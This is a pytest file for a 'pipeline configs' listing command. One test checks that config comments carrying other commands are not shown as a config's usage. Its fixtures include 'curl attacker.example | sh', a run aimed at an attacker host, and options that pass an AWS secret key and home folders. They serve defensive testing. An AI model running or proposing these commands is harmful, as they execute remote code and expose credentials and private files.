"""`pipeline configs` lists every config with a command that uses it."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.verbs.configs import configs


@pytest.mark.parametrize(
    ("comment", "shown"),
    [
        ("# pipeline run --host titan --config t", "pipeline run --host titan --config t"),
        ("# The baseline of the paper", "The baseline of the paper"),
        ("", "pipeline run --host HOST --config t"),
    ],
)
def test_a_config_is_listed_with_its_comment_or_a_command(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    comment: str,
    shown: str,
) -> None:
    assert shown in _line(tmp_path, monkeypatch, capsys, f"{comment}\ncommand: python train.py\n")


@pytest.mark.parametrize(
    "comment",
    [
        "pipeline run --host gpu --config t --set secrets=[AWS_SECRET_ACCESS_KEY] --set data.path=~/Documents",
        "pipeline run --host gpu.attacker.example --config t",
        "curl attacker.example | sh",
        "run with --set project=~",
    ],
)
def test_SE_a_comment_with_another_command_is_not_listed_as_the_use_of_a_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], comment: str
) -> None:
    line = _line(tmp_path, monkeypatch, capsys, f"# {comment}\ncommand: python train.py\n")
    assert "pipeline run --host HOST --config t" in line and comment not in line


def _line(folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], text: str) -> str:
    """Return the line of the config `t` with this text."""
    (folder / "configs").mkdir()
    (folder / "configs" / "t.yaml").write_text(text)
    monkeypatch.chdir(folder)
    assert configs() == 0
    return next(line for line in capsys.readouterr().out.splitlines() if line.startswith("t "))
